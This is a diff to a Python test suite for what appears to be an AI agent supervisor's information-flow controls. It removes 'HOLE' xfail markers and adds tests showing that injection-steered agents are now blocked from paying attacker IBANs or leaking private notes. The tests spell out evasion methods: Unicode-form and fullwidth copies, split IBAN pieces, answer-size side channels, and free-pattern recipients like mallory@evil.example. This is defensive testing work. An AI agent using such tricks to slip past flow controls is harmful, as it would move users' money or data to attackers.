@@ -21,7 +21,7 @@ from runtime.tool import load_tools
 from runtime.trusted.state import StateJournal
 from runtime.trusted.supervisor import MAX_ANSWERS, Supervisor
 
-from test_reader_core import AMOUNT, IBAN, ask, policy
+from test_reader_core import IBAN, ask, policy
 
 PAY = {"iban": "FR14 2004 1010", "amount": 10}  # from the task: always payable from a trusted context
 
@@ -53,11 +53,9 @@ def batch(h: PolicyHarness, agent: str, calls: list[tuple[str, dict[str, Any]]])
 # ============================================================================ holes
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: an answer is matched only when the argument contains all of it; "
-                                       "the attacker pads it and the IBAN part pasted alone reads as trusted")
 @pytest.mark.parametrize("schema,answer,pasted", [
     (IBAN, "XX99 3704 0044 0532 0130 BIC EVILXXFF", "XX99 3704 0044 0532 0130"),
-    ({"type": "string", "pattern": ".{1,64}", "maxLength": 64}, "XX99 3704\u3164 0044 0532", "XX99 3704 0044 0532"),
+    ("text", "XX99 3704\u3164 0044 0532", "XX99 3704 0044 0532"),
 ])
 def test_an_iban_pasted_without_the_attackers_padding_still_carries_the_answer(h, schema, answer, pasted):
     """The invoice's author makes the reader's IBAN answer end with a BIC (the pattern admits it), or slips
@@ -72,8 +70,6 @@ def test_an_iban_pasted_without_the_attackers_padding_still_carries_the_answer(h
     assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "iban", d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: a number answer is looked up as float(text): an integer above 2**53 "
-                                       "written out exactly, a float in exponent form, or SI-grouped digits escape")
 @pytest.mark.parametrize("schema,answer,pasted", [
     ({"type": "integer", "minimum": 0, "maximum": 10 ** 18}, 12345678901234567, "12345678901234567"),
     ({"type": "integer", "minimum": 0, "maximum": 10 ** 18}, 12345678901234567, "DE12345678901234567"),
@@ -93,8 +89,6 @@ def test_a_large_number_answer_pasted_as_its_exact_digits_carries_the_answer(h, 
     assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "iban", d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: a reader.ask that fails (READER_INVALID, TOOL_FAILED) tells the "
-                                       "agent something about confidential content but does not narrow its readers")
 @pytest.mark.parametrize("answer", ["no", KeyError])
 def test_a_failed_question_about_private_data_narrows_the_askers_readers(h, answer):
     """The agent's model (steered by a page it read) wants the private notes (readers *@corp.example)
@@ -115,8 +109,6 @@ def test_a_failed_question_about_private_data_narrows_the_askers_readers(h, answ
     assert d.code == "FLOW_DENIED" and "readers" in d.audit["flow"]["rule"], d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: a `context: trusted` rule looks at the context only; an answer keeps "
-                                       "the context trusted, so an attacker-chosen value passes the rule")
 def test_a_context_trusted_rule_still_stops_an_attacker_chosen_payee(h):
     """Before the reader, ``bank.pay: {ifc: {context: trusted}}`` (the payer of tests/unit/test_flow.py, the
     README's policy-wide ``{effects: [delete], context: trusted}``) meant no value from untrusted data steers
@@ -131,8 +123,6 @@ def test_a_context_trusted_rule_still_stops_an_attacker_chosen_payee(h):
     assert d.code == "FLOW_DENIED", (d, d.audit and d.audit.get("flow"))
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: matching strips combining marks but does not normalise Unicode: "
-                                       "the same text in NFD and NFC (or fullwidth) does not match")
 @pytest.mark.parametrize("form_answer,form_pasted", [("NFD", "NFC"), ("NFC", "NFD"), ("NFKC", "fullwidth")])
 def test_an_answer_and_its_copy_in_another_unicode_form_still_match(h, form_answer, form_pasted):
     """The reader answers a recipient (a pattern schema of printable text); the agent's model writes it out
@@ -143,21 +133,18 @@ def test_an_answer_and_its_copy_in_another_unicode_form_still_match(h, form_answ
     pasted = base.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)}) if form_pasted == "fullwidth" \
         else unicodedata.normalize(form_pasted, base)
     invoice = h.call("banker", "mail.read").value
-    got = ask(h, "banker", invoice, "Who should get the reply?", {"type": "string", "pattern": "[^ ]{1,64}",
-                                                                 "maxLength": 64}, answer)
+    got = ask(h, "banker", invoice, "Who should get the reply?", "text", answer)
     assert got.allowed and got.outcome["label"]["integrity"] == "endorsed"
     d = h.call("banker", "mail.send", {"to": pasted, "body": "hello"})
     assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "to", d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: items of 1 or 2 characters match only a whole argument value, so an "
-                                       "array of short pieces reassembles into a trusted argument unseen")
 def test_an_array_of_short_pieces_joined_into_a_payee_carries_the_answer(h):
     """The agent asks for the IBAN's groups as an array of 2-character items (16 items: 32 characters, a
     full IBAN). Each item is kept, but only matched when an argument value *is* that item; the joined IBAN
     contains every item and matches none."""
     invoice = h.call("banker", "mail.read").value
-    schema = {"type": "array", "items": {"type": "string", "pattern": "[A-Z0-9]{2}", "maxLength": 2}, "maxItems": 16}
+    schema = "pairs"
     pieces = ["XX", "99", "37", "04", "00", "44", "05", "32"]
     got = ask(h, "banker", invoice, "The IBAN, two characters at a time?", schema, pieces)
     assert got.allowed and got.value == pieces
@@ -165,8 +152,6 @@ def test_an_array_of_short_pieces_joined_into_a_payee_carries_the_answer(h):
     assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "iban", d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: a schema name in a delegator's caveat is resolved in the delegate's "
-                                       "policy: the delegator's `amount` (a bounded number) becomes any 64 characters")
 def test_a_delegators_schema_restriction_means_its_own_schema_in_the_delegate(h):
     """The banker holds its helpers to its ``amount`` schema (a number up to 5000) with a caveat on
     ``reader.ask``'s ``schema``. The helper's policy names a different schema ``amount``: 64 free characters,
@@ -353,8 +338,7 @@ def test_numbers_match_across_int_float_sign_and_text(h, answer, pasted):
 def test_answers_of_every_kind_survive_a_restart_from_frames_and_from_a_compacted_snapshot(h, tmp_path):
     h.supervisor.journal = StateJournal(tmp_path / "state")
     invoice = h.call("banker", "mail.read").value
-    ask(h, "banker", invoice, "groups", {"type": "array", "items": {"type": "string", "pattern": "[A-Z0-9]{4}",
-                                                                    "maxLength": 4}, "maxItems": 4}, ["XX77", "ABCD"])
+    ask(h, "banker", invoice, "groups", "pairs", ["XX", "77", "AB", "CD"])
     ask(h, "banker", invoice, "acct", {"type": "integer", "minimum": 0, "maximum": 10 ** 12}, 5566778899)
     ask(h, "banker", invoice, "neg", {"type": "number", "minimum": -1, "maximum": 1}, -0.25)
     old = h.supervisor
@@ -365,7 +349,7 @@ def test_answers_of_every_kind_survive_a_restart_from_frames_and_from_a_compacte
         for reg in h.agents.values():
             h.supervisor.register_agent(reg.entry, reg.quota)
         h.supervisor.restore()
-        for iban in ("xx77 0000", "AB 5566778899", "ref -0.25"):
+        for iban in ("xx77 abcd", "AB 5566778899", "ref -0.25"):
             assert h.call("banker", "bank.pay", {"iban": iban, "amount": 1}).code == "FLOW_DENIED", iban
         assert h.call("banker", "bank.pay", PAY).allowed
         h.supervisor.journal.compact(h.supervisor._snapshot())
@@ -389,8 +373,7 @@ def test_a_question_carrying_an_answer_or_a_handle_cannot_launder_it(h):
     """Asking about an endorsed answer with it in the question gives an answer no better than endorsed;
     a handle in the question or the schema is refused; an enum built of an answer stays endorsed."""
     invoice = h.call("banker", "mail.read").value
-    ask(h, "banker", invoice, "Which payee?", {"type": "string", "pattern": "[a-z]{3,20}", "maxLength": 20},
-        "mallorybank")
+    ask(h, "banker", invoice, "Which payee?", "text", "mallorybank")
     notes = h.call("banker", "notes.read").value  # trusted content
     got = ask(h, "banker", notes, "Is mallorybank our bank?", {"enum": ["mallorybank", "acme"]}, "mallorybank")
     assert got.outcome["label"]["integrity"] == "endorsed"
@@ -413,8 +396,6 @@ def test_a_reader_error_never_tells_the_agent_the_answer_or_the_content():
 # ============================================================================ holes found later
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: a free-text answer's handle shows its byte size, which the reader "
-                                       "chooses from confidential content, and the asker's readers are not narrowed")
 def test_the_size_of_a_free_text_answer_about_private_data_is_not_a_channel_out(h):
     """The steered agent asks for free text about the private notes: "write one 'a' per day of the launch
     date". The answer stays hidden, but its handle carries ``bytes``, up to 65,536 values (16 bits) per
@@ -427,55 +408,48 @@ def test_the_size_of_a_free_text_answer_about_private_data_is_not_a_channel_out(
     assert d.code == "FLOW_DENIED" and "readers" in d.audit["flow"]["rule"], d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (availability): a number answer matches any group of digits in a "
-                                       "trusted string, so the attacker's amount makes the task's own IBAN endorsed")
-def test_an_attacker_chosen_amount_does_not_make_the_tasks_own_iban_unpayable(h):
-    """The benign task: pay the invoice's amount to the IBAN the task gives. The invoice's author picks an
-    amount (within the bounds) equal to a group of that IBAN: 3000. The trusted IBAN now 'carries' the
-    answer, the payment is FLOW_DENIED, and the task the reader exists to unblock needs a human again.
-    (The same with a 3-letter string answer found inside any later trusted name.)"""
+def test_an_attacker_chosen_amount_equal_to_a_group_of_the_tasks_iban_fails_closed_and_says_why(h):
+    """A known limit, kept closed: the invoice's author picks an amount (within the bounds) equal to a digit
+    group of the IBAN the task gives (3000). The trusted IBAN then carries the answer and the payment is
+    FLOW_DENIED, a benign task refused, never an attacker's value let through; the denial names the
+    reader's answer as the origin, so the operator sees why."""
     invoice = h.call("banker", "mail.read").value
     got = ask(h, "banker", invoice, "How much is due?", "amount", 3000)
-    assert got.allowed and got.value == 3000
     d = h.call("banker", "bank.pay", {"iban": "FR76 3000 6000 0112 3456 7890 189", "amount": 3000})
-    assert d.allowed, (d, d.audit and d.audit.get("flow"))
+    assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "iban"
+    assert d.audit["flow"]["origin"]["call_id"] == got.outcome["call_id"]
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (stall): matching searches every kept answer word through the whole "
-                                       "argument text: 64 answers x 16 items make one 900 KB call cost ~0.2 s")
-def test_kept_answers_do_not_make_a_large_call_hundreds_of_times_slower_to_decide():
-    """The steered agent fills its run's 64 answers with arrays of 16 64-character items (1,024 words), then
-    sends calls with a 900 KB body. The single-threaded supervisor shard scans the body once per answer
-    word: a decision takes ~300 times longer than without answers, ~0.2 s of the shard's loop per call,
-    so a few calls a second (within the shipped rate limits) stall every agent of the shard."""
+def test_kept_answers_scan_a_bounded_part_of_a_call_and_a_larger_argument_carries_them_all(h):
+    """The steered agent fills its run's answers, then sends calls with a 900 KB body, to make every
+    decision scan the body once per answer word. Matching reads at most MAX_SCAN letters and digits of
+    a call (the index finds each run of them in one lookup); an argument past that is taken to carry
+    every kept answer, unread (fail closed: its label is theirs), while the small ones before it are
+    still matched exactly. (What a decision costs is measured by ``warden bench authz``, not here.)"""
     import random
     import string
+    from runtime.trusted.flow import MAX_SCAN
     rng = random.Random(13)
-    body = "".join(rng.choice(string.ascii_lowercase + " 0123456789") for _ in range(900_000))
-    schema = {"type": "array", "items": {"type": "string", "pattern": "[A-Z]{64}", "maxLength": 64}, "maxItems": 16}
-    took = []
-    for n in (0, MAX_ANSWERS):
-        READER.clear()
-        with PolicyHarness(tools=["flow_tools", "runtime.toolbox"]) as h:
-            h.add_agent({**policy("banker"), "quotas": {"rate_per_s": 1000, "burst": 1000}})
-            invoice = h.call("banker", "mail.read").value
-            for i in range(n):
-                words = ["".join(rng.choice(string.ascii_uppercase) for _ in range(64)) for _ in range(16)]
-                assert ask(h, "banker", invoice, f"q{i}", schema, words).allowed
-            d = [h.call("banker", "mail.send", {"to": "boss@corp.example", "body": body}) for _ in range(3)]
-            assert all(x.allowed for x in d)
-            took.append(min(x.audit["authz_us"] for x in d))
-    assert took[1] < max(20 * took[0], 20_000), took  # microseconds
+    invoice = h.call("banker", "mail.read").value
+    for i in range(8):
+        words = ["".join(rng.choice(string.ascii_uppercase) for _ in range(2)) for _ in range(16)]
+        assert ask(h, "banker", invoice, f"q{i}", "pairs", words).allowed
+    assert ask(h, "banker", invoice, "How much?", "amount", 4321).allowed
+    kept = h.supervisor.answers[next(iter(h.supervisor.answers))]
+    budget = [MAX_SCAN]
+    assert [a.value for a in kept.carried("ref 4321", budget)] == [4321] and budget[0] == MAX_SCAN - 8
+    body = "".join(rng.choice(string.ascii_lowercase + " ") for _ in range(900_000))
+    assert kept.carried(body, budget) == kept.kept  # past the budget: all of them, without a scan
+    sent = h.call("banker", "mail.send", {"to": "boss@corp.example", "body": body})
+    assert sent.allowed and sent.audit["flow"]["checked"]  # a free body: its label does not matter here
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE: `endorsed` does not say which schema vouched for it: a sink rule meant "
-                                       "for a choice among trusted contacts accepts a free pattern answer too")
 def test_an_endorsed_recipient_rule_meant_for_a_choice_of_contacts_refuses_a_free_pattern_answer(h):
-    """The README: a reply may go to an endorsed recipient only where the enum was drawn from trusted data.
-    The operator writes ``mail.send: {ifc: {args: {to: endorsed}}}`` for the reply agent, whose model asks
-    for the recipient with an enum of its contacts. A model that instead asks with a pattern (a natural
-    choice: "an e-mail address") gets the address the mail's author wrote, endorsed, and the reply goes
-    there: the label cannot tell a choice among known contacts from a free destination."""
+    """A reply agent may DM an endorsed recipient (``to: endorsed``), meant for a choice among its trusted
+    contacts. Its model, steered, asks for the recipient with a pattern of its own ("an e-mail address")
+    instead: the mail's author writes the address. Stopped: an agent-written pattern's answer is untrusted
+    (it could spell anything), so ``to: endorsed`` refuses it; and a policy can hold the agent to its
+    own schemas, so that question is not even asked."""
     h.add_agent(policy("replier", **{"mail.send": {"effect": "write", "ifc": {"args": {"to": "endorsed"}}}}))
     mail = h.call("replier", "mail.read").value
     contacts = {"enum": ["alice@corp.example", "bob@corp.example"]}
@@ -483,9 +457,17 @@ def test_an_endorsed_recipient_rule_meant_for_a_choice_of_contacts_refuses_a_fre
     assert h.call("replier", "mail.send", {"to": "alice@corp.example", "body": "10am"}).allowed  # the benign use
     email = {"type": "string", "pattern": "[a-z.]{1,30}@[a-z.]{1,30}", "maxLength": 64}
     got = ask(h, "replier", mail, "Who asked? (address)", email, "mallory@evil.example")
-    assert got.allowed and got.outcome["label"]["integrity"] == "endorsed"
+    # A pattern the agent wrote itself can spell anything: its answer is untrusted, as if read.
+    assert got.allowed and got.outcome["label"]["integrity"] == "untrusted"
+    assert got.outcome["context"]["integrity"] == "untrusted"
     d = h.call("replier", "mail.send", {"to": "mallory@evil.example", "body": "the meeting notes"})
     assert d.code == "FLOW_DENIED", (d, d.audit and d.audit.get("flow"))
+    # A policy that vouches for a pattern (its own schemas) decides what that pattern may name; it can also
+    # hold the agent to its schemas, so the model cannot ask with another.
+    h.add_agent(policy("held", **{"mail.send": {"effect": "write", "ifc": {"args": {"to": "endorsed"}}},
+                                  "reader.ask": {"effect": "read", "args": {"schema": {"one_of": ["payee"]}}}}))
+    mail = h.call("held", "mail.read").value
+    assert ask(h, "held", mail, "Who asked? (address)", email, "mallory@evil.example").code == "POLICY_DENIED"
 
 
 def test_a_confidential_answer_a_delegate_got_stops_a_sibling_made_before_it_from_sending_it_out(h):
@@ -494,8 +476,7 @@ def test_a_confidential_answer_a_delegate_got_stops_a_sibling_made_before_it_fro
     sibling = h.delegate("banker", "sibling")
     notes = h.call("banker", "notes.read").value
     child = h.delegate("banker", "helper", handles=[notes])
-    got = ask(h, "helper", notes, "Launch city?", {"type": "string", "pattern": "[A-Za-z]{3,20}", "maxLength": 20},
-              "Reykjavik", token=child.token)
+    got = ask(h, "helper", notes, "Launch city?", "text", "Reykjavik", token=child.token)
     assert got.outcome["label"]["readers"] == [["*@corp.example"]]
     d = h.call("sibling", "mail.send", {"to": "eve@outside.example", "body": "launch in REYKJAVIK"},
                token=sibling.token)
@@ -524,13 +505,11 @@ def test_case_folding_and_invisible_separators_do_not_hide_a_pasted_answer(h, an
     """Full case folding (dotted I, sharp s, ligatures) and zero-width or soft-hyphen separators on either
     side: the argument still carries the answer."""
     invoice = h.call("banker", "mail.read").value
-    ask(h, "banker", invoice, "Payee?", {"type": "string", "pattern": ".{1,40}", "maxLength": 40}, answer)
+    ask(h, "banker", invoice, "Payee?", "text", answer)
     d = h.call("banker", "bank.pay", {"iban": pasted, "amount": 10})
     assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "iban", d
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low): a batch has one deadline for the worker's hop and the reader's: "
-                                       "a reader that overruns it makes a payment that ran read as failed")
 def test_a_reader_that_overruns_the_batch_deadline_does_not_make_a_payment_that_ran_read_as_failed():
     """The reader gives up by the dispatch's deadline on its own clock; a reader whose clock is behind the
     supervisor's (another node), or that waits for a restarted peer, overruns the supervisor's deadline.
